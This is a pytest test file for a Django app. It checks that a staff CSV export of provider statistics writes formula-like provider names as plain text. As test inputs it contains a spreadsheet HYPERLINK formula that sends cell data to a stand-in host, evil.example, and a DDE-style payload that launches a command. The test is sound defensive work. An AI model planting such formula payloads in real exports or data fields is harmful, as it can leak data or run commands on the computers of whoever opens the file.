"""The providers CSV opens in a spreadsheet as data, never as formulas."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from cases import stats
from cases.models import Case
from tests import factories

pytestmark = pytest.mark.django_db
NOW = dt.datetime(2026, 6, 1, 12, 0, tzinfo=dt.UTC)


def test_a_hostile_provider_name_is_written_as_text(agent_client):
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    provider = factories.ProviderFactory(name=hostile, country="GB")
    done = NOW - dt.timedelta(days=5)
    factories.CaseFactory(
        provider=provider,
        status=Case.Status.COMPLETED,
        submitted_at=done - dt.timedelta(days=2),
        completed_at=done,
    )
    factories.ProviderFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", country="GB")
    stats.compute(now=NOW)

    response = agent_client.get(reverse("staff:stats_csv"))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[0] for row in rows[1:]]
    assert "'" + hostile in names
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(starts) for row in rows for cell in row)
    row = rows[names.index("'" + hostile) + 1]
    assert row[4] == "1"  # numbers stay numbers
